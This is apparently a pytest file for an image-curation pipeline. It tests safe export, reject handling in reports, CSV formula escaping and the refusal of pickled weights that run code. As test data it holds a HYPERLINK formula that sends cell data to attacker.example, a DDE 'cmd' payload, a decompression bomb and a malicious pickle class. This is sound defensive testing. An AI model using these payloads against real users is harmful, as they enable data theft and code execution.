"""Outputs that must never destroy or leak: ``export --dest`` replaces only a previous
export, export checks the bytes it fetches again (sha256, validate's limits), the report
never decodes a hostile reject and never keeps a finished run from being committed, CSV
cells never run as spreadsheet formulas, the aesthetic head never runs a pickle's code.

One small real run (a manifest of real images with licence and title columns, a
decompression bomb, a truncated JPEG) is shared by the tests that need one."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import re
import sys
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.csv as pacsv
import pytest
import torch
from PIL import Image

from manifests.io import read_committed_table
from pipeline import thumbs
from pipeline.testdata import images
from manifests.config import ConfigError, StorageConfig, ValidateConfig

HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"click")'
CMD = "-2+3+cmd|' /C calc'!A0"
BOMB_SIDE = 3000  # 9 Mpx, a few KB as a 1-bit PNG: under Pillow's own limit, over the run's
MAX_PIXELS = 4_000_000


def _files(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


@pytest.fixture(scope="module")
def finished(tmp_path_factory, ray_local, good):
    """A run on a manifest whose report cannot be written (report.html is a link into
    /proc, where nothing can be created, root or not); it records whether the run was
    committed when its report started, and what it printed on stderr."""
    from pipeline import plan, report
    from manifests.config import load_config

    root = tmp_path_factory.mktemp("outputs")
    src = root / "in"
    src.mkdir()
    names = ["astronaut.jpg", "coffee.png", "chelsea.webp", "camera_l.png", "rotated6.jpg"]
    for n in names:
        (src / n).write_bytes(good[n])
    bomb = Image.new("1", (BOMB_SIDE, BOMB_SIDE))
    (src / "bomb.png").write_bytes(images.encode(bomb, "PNG"))
    jpg = good["astronaut.jpg"]
    (src / "truncated.jpg").write_bytes(jpg[: len(jpg) // 2])
    uris = [str(src / n) for n in [*names, "bomb.png", "truncated.jpg"]]
    licence = [HYPERLINK if n == "coffee.png" else "CC-BY-4.0" for n in [*names, "bomb.png", "truncated.jpg"]]
    title = [CMD if n == "coffee.png" else "@SUM(1+1)" if n == "chelsea.webp" else n for n in
             [*names, "bomb.png", "truncated.jpg"]]
    pacsv.write_csv(pa.table({"uri": uris, "license": licence, "title": title}), root / "manifest.csv")
    out = root / "run"
    out.mkdir()
    if sys.platform.startswith("linux"):
        (out / "report.html").symlink_to("/proc/self")
    seen = {}
    real = report.write_report

    def watched(output, storage=None):
        seen["committed_before_report"] = (Path(output) / "_SUCCESS").exists()
        return real(output, storage)

    cfg = load_config(None, {"input.path": str(root / "manifest.csv"), "output": str(out),
                             "validate.max_pixels": MAX_PIXELS})
    err = io.StringIO()
    with pytest.MonkeyPatch.context() as mp, contextlib.redirect_stderr(err):
        mp.setattr(report, "write_report", watched)
        summary = plan.run(cfg, until="exact_dedup")
    if (out / "report.html").is_symlink():
        (out / "report.html").unlink()
    return {"root": root, "src": src, "out": out, "summary": summary, "seen": seen, "stderr": err.getvalue()}


# --------------------------------------------------------------------------- the run and its report

@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="needs /proc to make report.html unwritable")
def test_run_is_committed_before_its_report_and_a_report_failure_is_a_warning(finished):
    out = finished["out"]
    assert finished["seen"]["committed_before_report"]
    assert (out / "_SUCCESS").exists() and json.loads((out / "summary.json").read_text())["inputs"] == 7
    warnings = [line for line in finished["stderr"].splitlines() if "report.html" in line]
    assert len(warnings) == 1 and warnings[0].startswith("biocurate: warning: report.html not written"), warnings
    assert not (out / "report.html").exists()


def test_report_never_decodes_an_unsafe_reject(finished):
    """The bomb (9 Mpx declared, run max_pixels 4 Mpx: rejected) and the truncated JPEG
    are placeholders naming their reason; the safe images are thumbnails; the files
    skipped by extension (summary.input_skipped) get one line."""
    from pipeline import report

    out = finished["out"]
    rejected = {Path(r["uri"]).name: r["reason"] for r in read_committed_table(f"{out}/rejected").to_pylist()}
    assert rejected == {"bomb.png": "decompression_bomb", "truncated.jpg": "corrupt"}
    summary_path = out / "summary.json"
    original = summary_path.read_text()
    summary = json.loads(original)
    summary["input_skipped"] = {"count": 312, "by_extension": {".txt": 300, ".xml": 12},
                                "examples": ["notes.txt", "meta.xml"]}
    summary_path.write_text(json.dumps(summary))
    try:
        report.write_report(str(out))
    finally:
        summary_path.write_text(original)
    page = (out / "report.html").read_text()
    for reason in ("decompression_bomb", "corrupt"):
        section = page.split(f"<h3>{reason}</h3>", 1)[1].split("<h", 1)[0]
        assert "<img" not in section and f"not shown: {reason}" in section, section[:300]
    assert len(re.findall(r'<img src="data:image/jpeg;base64,', page)) >= 3
    assert "312 files skipped by extension (.txt 300, .xml 12), e.g. notes.txt, meta.xml" in page
    summary.pop("input_skipped")
    assert report.skipped_line(summary) == "" and report.skipped_line({"input_skipped": {"count": 0}}) == ""


def test_thumbnails_read_only_safe_rejects_and_decode_them_under_the_runs_limits(tmp_path, photos):
    """A reject whose reason says its bytes are unsafe is not even read; a row whose
    reason is harmless but whose file is now a bomb is refused by validate's header check,
    as is a file over max_bytes; a too-small image is still shown."""
    bomb = tmp_path / "bomb.png"
    bomb.write_bytes(images.encode(Image.new("1", (BOMB_SIDE, BOMB_SIDE)), "PNG"))
    small = tmp_path / "small.png"
    small.write_bytes(images.encode(Image.fromarray(photos["coffee"]).resize((40, 30)), "PNG"))
    big = tmp_path / "big.jpg"
    big.write_bytes(images.encode(Image.fromarray(photos["astronaut"]), "JPEG", quality=95))
    gone = tmp_path / "gone.png"
    limits = ValidateConfig(max_pixels=MAX_PIXELS, max_bytes=big.stat().st_size - 1)
    wanted = {str(gone): "decompression_bomb", str(bomb): "nonnatural", str(small): "too_small",
              str(big): None}
    got = thumbs.thumbnails(wanted, StorageConfig(), limits, size=64)
    assert got[str(gone)] == (None, "not shown: decompression_bomb")  # not read: a missing file would say so
    assert got[str(bomb)] == (None, "not decoded: decompression_bomb")
    assert got[str(big)] == (None, "not readable")  # over max_bytes: not kept, not decoded
    src, why = got[str(small)]
    assert why is None and max(Image.open(io.BytesIO(__import__("base64").b64decode(src.split(",")[1]))).size) == 40
    assert thumbs.data_uri(bomb.read_bytes(), limits=limits) is None


# --------------------------------------------------------------------------- export destination

def _cli_export(out, dest, capsys) -> tuple[int, str]:
    from pipeline.run import main

    rc = main(["export", "--output", str(out), "--dest", str(dest)])
    return rc, capsys.readouterr().err


def test_export_refuses_the_run_its_parents_its_inside_and_foreign_folders(finished, tmp_path, capsys):
    out = finished["out"]
    foreign = tmp_path / "photos"
    foreign.mkdir()
    (foreign / "holiday.jpg").write_bytes(b"mine")
    a_file = tmp_path / "file.bin"
    a_file.write_bytes(b"x")
    before = _files(finished["root"]), _files(tmp_path)
    for dest, why in ((out, "is the run directory"), (out.parent, "one of its parents"), (out / "curated",
                      "inside the run directory"), (foreign, "not empty and holds no previous export"),
                      (a_file, "is a file")):
        rc, err = _cli_export(out, dest, capsys)
        assert rc == 2 and why in err and len(err.strip().splitlines()) == 1, (dest, err)
    assert (_files(finished["root"]), _files(tmp_path)) == before  # nothing deleted


def test_re_export_replaces_only_its_own_files_and_skips_changed_sources(finished, tmp_path):
    """Export, then (a user's note added next to it, the export interrupted: no
    _SUCCESS, no export.json) export again with fewer shards: the old shards go, the note
    stays; a source changed since the run is listed, not written; CSV cells are escaped."""
    from pipeline.export import export_run

    out, dest = finished["out"], tmp_path / "wds"
    curated = {r["id"]: r for r in read_committed_table(f"{out}/curated").to_pylist()}
    first = export_run(str(out), str(dest), shard_size=2, max_pixels=20_000)
    assert first["images"] == len(curated) == 5 and len(first["shards"]) == 3 and not first["skipped"]
    (dest / "notes.txt").write_text("mine")
    (dest / "_SUCCESS").unlink()
    (dest / "export.json").unlink()
    changed = next(r for r in curated.values() if r["uri"].endswith("rotated6.jpg"))
    source = Path(changed["uri"])
    kept = source.read_bytes()
    source.write_bytes(images.encode(Image.new("RGB", (300, 200), (9, 99, 199)), "JPEG"))
    try:
        again = export_run(str(out), str(dest), shard_size=100, max_pixels=20_000)
    finally:
        source.write_bytes(kept)
    assert again["skipped"] == [{"id": changed["id"], "why": "source changed since the run (sha256 mismatch)"}]
    assert again["images"] == 4
    assert sorted(p.name for p in dest.iterdir()) == sorted(
        [".biocurate-export", "ATTRIBUTION.csv", "_SUCCESS", "export.json", "notes.txt", "shard-000000.tar"])
    assert json.loads((dest / "export.json").read_text())["kind"] == "biocurate-export"
    rows = {r["uri"].rsplit("/", 1)[1]: r for r in csv.DictReader(io.StringIO((dest / "ATTRIBUTION.csv").read_text()))}
    assert rows["coffee.png"]["licence"] == "'" + HYPERLINK and rows["coffee.png"]["title"] == "'" + CMD
    assert rows["chelsea.webp"]["title"] == "'@SUM(1+1)" and rows["astronaut.jpg"]["licence"] == "CC-BY-4.0"


def test_export_to_s3_refuses_a_prefix_holding_other_objects(finished, bucket):
    """On S3 as on a disk: a prefix holding other objects is refused (nothing deleted); an
    interrupted export there (its identity object, stale shards) is replaced, and only
    what an export writes is deleted."""
    import boto3

    from pipeline.export import export_run

    endpoint, name = bucket
    s3 = boto3.client("s3", endpoint_url=endpoint, region_name="us-east-1")
    s3.put_object(Bucket=name, Key="corpus/keep.jpg", Body=b"user data")
    storage = StorageConfig(endpoint_url=endpoint)
    with pytest.raises(ConfigError, match="not empty and holds no previous export"):
        export_run(str(finished["out"]), f"s3://{name}/corpus", storage=storage)
    assert s3.get_object(Bucket=name, Key="corpus/keep.jpg")["Body"].read() == b"user data"
    from pipeline.export import IDENTITY, KIND, check_dest

    with pytest.raises(ConfigError, match="one of its parents"):  # the prefix holding an S3 run
        check_dest(f"s3://{name}/runs/r1", f"s3://{name}/runs", storage)
    with pytest.raises(ConfigError, match="bucket root"):
        check_dest(str(finished["out"]), f"s3://{name}/", storage)
    s3.put_object(Bucket=name, Key=f"exports/v1/{IDENTITY}", Body=json.dumps({"kind": KIND}).encode())
    for key in ("shard-000000.tar", "shard-000007.tar", "README"):
        s3.put_object(Bucket=name, Key=f"exports/v1/{key}", Body=b"old")
    done = export_run(str(finished["out"]), f"s3://{name}/exports/v1", shard_size=3, max_pixels=20_000,
                      storage=storage)
    assert done["images"] == 5 and done["shards"] == ["shard-000000.tar", "shard-000001.tar"]
    keys = sorted(o["Key"] for o in s3.list_objects_v2(Bucket=name)["Contents"])
    assert "corpus/keep.jpg" in keys
    assert {k.rsplit("/", 1)[1] for k in keys if k.startswith("exports/v1/")} == {
        IDENTITY, "ATTRIBUTION.csv", "_SUCCESS", "export.json", "README", "shard-000000.tar", "shard-000001.tar"}
    assert s3.get_object(Bucket=name, Key="exports/v1/README")["Body"].read() == b"old"


# --------------------------------------------------------------------------- Ray-free

def test_spreadsheet_cells_never_run_as_formulas():
    from pipeline.examples_report import sample_csv
    from stages.export import attribution_row

    row = {"id": "ab12", "uri": "/data/x.jpg", "license": HYPERLINK, "title": "\tTAB", "who": "+33 1 23 45",
           "src": "\rCR"}
    got = attribution_row(row, {"licence": "license", "title": "title", "rights_holder": "who", "source": "src"})
    assert got == {"id": "ab12", "uri": "/data/x.jpg", "licence": "'" + HYPERLINK, "title": "'\tTAB",
                   "rights_holder": "'+33 1 23 45", "source": "'\rCR"}
    text = sample_csv([{"id": "ab12", "uri": "@evil", "nonnatural_category": "=1+1", "nonnatural_score": 0.5,
                        "nonnatural_margin": -0.25}])
    (line,) = list(csv.DictReader(io.StringIO(text)))
    assert line["uri"] == "'@evil" and line["nonnatural_category"] == "'=1+1"
    assert line["nonnatural_margin"] == "-0.25000"  # a plain negative number stays a number


class _RunsCode:
    """A pickle that writes a file when loaded."""

    def __init__(self, path: str):
        self.path = path

    def __reduce__(self):
        return (Path.write_text, (Path(self.path), "pwned"))


@pytest.mark.parametrize("kind", ["linear", "mlp"])
def test_aesthetic_weights_that_run_code_are_refused(tmp_path, monkeypatch, kind):
    """Even with TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD set (the usual fix for old checkpoints,
    which makes a plain torch.load unpickle anything), a weights file carrying code is
    refused before the code runs; a real state dict still loads and scores."""
    from stages.aesthetic import AestheticError, ImprovedAestheticMLP, load_head, score

    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD", "1")
    import aesthetic_predictor.libs as libs

    monkeypatch.setattr(libs, "urlretrieve", lambda *a, **k: pytest.fail("download"))
    hit = tmp_path / "pwned.txt"
    evil = tmp_path / "evil.pth"
    torch.save({"weight": _RunsCode(str(hit))}, evil)
    with pytest.raises(AestheticError, match="refused"):
        load_head(kind, str(evil))
    assert not hit.exists()
    torch.manual_seed(0)
    model = torch.nn.Linear(768, 1) if kind == "linear" else ImprovedAestheticMLP()
    good = tmp_path / "good.pth"
    torch.save(model.state_dict(), good)
    e = np.random.default_rng(0).normal(size=(3, 768)).astype(np.float32)
    with torch.no_grad():
        want = model.eval()(torch.nn.functional.normalize(torch.from_numpy(e), dim=-1))[:, 0].numpy()
    assert np.allclose(score(load_head(kind, str(good)), e), want, atol=1e-5)
